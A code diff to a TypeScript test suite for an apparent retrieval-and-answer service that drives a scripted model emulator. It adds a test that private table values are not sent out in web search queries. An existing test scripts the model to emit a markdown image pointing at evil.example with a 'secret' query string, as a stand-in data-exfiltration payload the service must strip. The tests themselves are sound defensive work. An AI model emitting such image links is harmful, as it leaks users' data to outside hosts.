@@ -8,7 +8,7 @@ import {
   saying,
   startModelEmulator,
 } from "../../test/model-emulator.ts";
-import type { Answer, Passage, Report, Tool, Turn } from "./answer.rules.ts";
+import type { Answer, Asked, Passage, Report, Tables, Tool, Turn } from "./answer.rules.ts";
 import { openMeter } from "./meter.service.ts";
 import { openModelAnswerer } from "./model-answerer.service.ts";
 
@@ -35,7 +35,7 @@ function passage(name: string, text: string): Passage {
 const lamp = passage("lamp", "The lamp turns once in 14 seconds.");
 const tower = passage("tower", "The tower was built in 1874.");
 
-function ask(question: string, found: Passage[][], history: Turn[] = []): Promise<Answer> {
+function ask(question: string, found: Passage[][], more: Partial<Asked> = {}): Promise<Answer> {
   const config = { apiKey: "k", baseUrl: provider.baseUrl, embeddingPrice: 0, timeoutMs: 5_000 };
   const { chat } = openModels({ ...config, chatModel: "talker", embeddingModel: undefined });
   if (!chat) throw new Error("Expected a chat model");
@@ -56,8 +56,12 @@ function ask(question: string, found: Passage[][], history: Turn[] = []): Promis
     prices: { input: 0, output: 0 },
   });
   const answer = openModelAnswerer(meter.measure(chat), meter);
-  const asked = { question, history, tools: [tool], library: null, tables: null };
-  return answer(asked, silentReport, AbortSignal.timeout(20_000));
+  const nothing = { history: [], library: null, tables: null };
+  return answer(
+    { question, tools: [tool], ...nothing, ...more },
+    silentReport,
+    AbortSignal.timeout(20_000),
+  );
 }
 
 const silentReport: Report = {
@@ -141,7 +145,7 @@ describe("the model answerer", () => {
       { role: "user", content: "Tell me of the lamp of Gull Island" },
       { role: "assistant", content: "It is old [1]." },
     ];
-    const answer = await ask("How fast does it turn?", [[lamp]], history);
+    const answer = await ask("How fast does it turn?", [[lamp]], { history });
     expect(searched).toEqual(["How fast does the lamp of Gull Island turn?"]);
     const [condensing, answering] = provider.requests;
     expect(condensing?.body.messages.at(-1)?.content).toContain("Person: Tell me of the lamp");
@@ -207,6 +211,24 @@ describe("the model answerer", () => {
   it("drops images that would be loaded from elsewhere", async () => {
     provider.scriptChat(saying("In 14 seconds [1]. ![x](https://evil.example/?q=secret)"));
     expect((await ask("How fast?", [[lamp]])).content).toBe("In 14 seconds [1]. x");
+  });
+
+  it("carries nothing to the web that it was told of tables", async () => {
+    async function find(query: string) {
+      searched.push(query);
+      return [];
+    }
+    const web: Tool = { id: "web_search", step: "web_search", description: "The web.", find };
+    const tables: Tables = {
+      list: async () => [],
+      tellOf: async () => ['Table cargo: such as "quicksilver"'],
+      compute: () => Promise.reject(new Error("Nothing is to be computed here.")),
+    };
+    const query = "cargo quicksilver";
+    provider.scriptChat(calling({ name: "web_search", arguments: { query } }), saying("NOT_FOUND"));
+    await ask("What is the cargo?", [], { tools: [web], tables });
+    expect(JSON.stringify(provider.requests[0]?.body)).toContain("quicksilver");
+    expect(searched).toEqual(["What is the cargo", "cargo"]);
   });
 
   it("stays within the budget of passages", async () => {
